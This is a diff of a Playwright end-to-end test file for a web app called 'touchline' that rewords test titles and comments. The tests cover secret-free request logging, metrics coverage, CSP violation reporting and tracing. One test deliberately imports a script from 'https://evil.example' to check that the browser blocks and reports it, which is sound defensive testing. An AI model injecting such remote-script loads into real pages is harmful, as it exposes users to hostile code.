@@ -12,7 +12,7 @@ interface Site {
   spans: SentSpan[];
 }
 
-/** The product as it runs in production, with everything on that operators look at. */
+/** The product with production settings and all telemetry on. */
 const test = base.extend<object, { site: Site }>({
   site: [
     // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of the fixtures from this pattern
@@ -34,13 +34,13 @@ const test = base.extend<object, { site: Site }>({
   ],
 });
 
-/** Everything a browser sends or gets that nobody else may know. */
+/** Every secret that a browser sends or receives. */
 async function secretsOf(context: BrowserContext): Promise<string[]> {
   const values = (await context.cookies()).map(({ value }) => decodeURIComponent(value));
   return values.filter((value) => value.length > 12 && !value.startsWith('/'));
 }
 
-test('a journey leaves one line a request, and none of its secrets', async ({ page, context, site: { server } }) => {
+test('each request of a journey logs one line without secrets', async ({ page, context, site: { server } }) => {
   const { origin } = server;
   const secrets: string[] = ['SECRET-COUPON-7', 'tlop_secret-operator-token'];
   page.on('request', (request) => {
@@ -81,7 +81,7 @@ test('a journey leaves one line a request, and none of its secrets', async ({ pa
   expect(found).toEqual([]);
 });
 
-test('every metric of the dashboard is in a scrape', async ({ page, site: { server, metrics } }) => {
+test('the metrics endpoint has every metric of the dashboard', async ({ page, site: { server, metrics } }) => {
   await page.goto(`${server.origin}/teams`);
   await page.goto(`${server.origin}/teams`);
   const report = { 'csp-report': { 'document-uri': `${server.origin}/teams`, 'effective-directive': 'img-src' } };
@@ -97,23 +97,23 @@ test('every metric of the dashboard is in a scrape', async ({ page, site: { serv
   const named = new Set([...dashboard.matchAll(/\b(?:touchline|nodejs|process)_\w+/g)].map(([name]) => name));
   expect(named.size).toBeGreaterThan(20);
   expect([...named].filter((name) => !measured.has(name))).toEqual([]);
-  // And nothing of ours is left out of it.
+  // The dashboard leaves no metric of the product out.
   const families = [...scrape.matchAll(/^# TYPE (touchline_\w+)/gm)].map(([, name]) => name!);
   expect(families.filter((name) => ![...named].some((known) => known.startsWith(name)))).toEqual([]);
   expect((await fetch(`${server.origin}/metrics`)).status).toBe(404);
 });
 
-test('a page that breaks the policy is reported by the browser', async ({ page, site: { server, metrics } }) => {
+test('the browser reports a policy violation', async ({ page, site: { server, metrics } }) => {
   await page.goto(`${server.origin}/teams`);
   await page.evaluate("import('https://evil.example/x.js').catch(() => {})");
   const reported = async () =>
     /^touchline_csp_reports_total\{directive="script-src-elem"\} 1$/m.test(await (await fetch(metrics)).text());
   await expect.poll(reported).toBe(true);
-  const told = () => logLines(server).filter(({ blocked }) => blocked === 'https://evil.example');
-  await expect.poll(told).toMatchObject([{ msg: 'Blocked on a page', route: '/teams' }]);
+  const reports = () => logLines(server).filter(({ blocked }) => blocked === 'https://evil.example');
+  await expect.poll(reports).toMatchObject([{ msg: 'Blocked on a page', route: '/teams' }]);
 });
 
-test('a page and the calls it made are one trace', async ({ page, site: { server, spans } }) => {
+test('a page and its backend calls form one trace', async ({ page, site: { server, spans } }) => {
   await page.goto(`${server.origin}/venues`);
   const render = () => spans.find(({ name }) => name === 'render /venues');
   await expect.poll(render, { timeout: 20_000 }).toBeTruthy();
